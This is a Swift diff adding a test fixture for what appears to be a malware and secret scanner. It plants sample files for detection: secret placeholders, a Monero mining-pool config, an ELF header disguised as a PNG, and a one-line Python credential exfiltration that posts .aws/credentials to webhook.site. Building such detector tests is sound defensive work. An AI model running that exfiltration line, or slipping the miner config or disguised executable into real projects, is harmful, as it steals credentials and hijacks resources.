@@ -10,7 +10,7 @@ struct DetectorSample {
         let builders: [(String, (inout Sample) throws -> Void)] = [
             ("python", python), ("node", node), ("ruby, dotnet, composer", others), ("java", java),
             ("programs", programs), ("dpkg", dpkg), ("apk", apk), ("rpm, unreadable", rpm), ("code alone", code),
-            ("hooks", hooks), ("bills in wheels", bills),
+            ("hooks", hooks), ("bills in wheels", bills), ("content", content),
         ]
         return try builders.map { name, build in
             var artifact = Sample()
@@ -175,6 +175,18 @@ struct DetectorSample {
         var jar = ZipBuilder()
         jar.addFile("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\npremain-class: a.B\r\n")
         try sample.add("java/lib/agent-1.0.jar", jar.bytes())
+    }
+
+    private static func content(_ sample: inout Sample) throws {
+        try sample.add("token.txt", SecretText.gitHub)
+        try sample.add("aws.ini", SecretText.accessKey)
+        try sample.add("db.env", SecretText.connection)
+        try sample.add("miner.json", #"{"donate-level":1,"url":"stratum+tcp://supportxmr.com:3333"}"#)
+        try sample.add("steal.py", "post('https://webhook.site/x', open('.aws/credentials'))")
+        var program = [UInt8](repeating: 0, count: 64)
+        program.replaceSubrange(
+            0..<20, with: [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 62, 0])
+        try sample.add("logo.png", program)
     }
 
     private static func code(_ sample: inout Sample) throws {
